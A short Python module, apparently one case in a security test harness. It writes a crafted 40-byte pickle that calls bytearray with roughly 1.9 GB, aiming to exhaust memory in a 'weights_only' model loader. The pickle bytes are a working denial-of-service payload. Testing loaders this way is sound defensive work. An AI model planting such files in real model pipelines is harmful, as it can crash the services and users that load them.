"""Forty bytes of pickle that ask for two gigabytes: `weights_only` allows ``bytearray(n)``."""

from __future__ import annotations

from pathlib import Path

from attacks.trial import archive, main, write_sealed


def attack(folder: Path) -> Path:
    return write_sealed(folder, archive(b"\x80\x02cbuiltins\nbytearray\nJ\x00\x00\x00\x70\x85R."))


if __name__ == "__main__":
    main(attack)
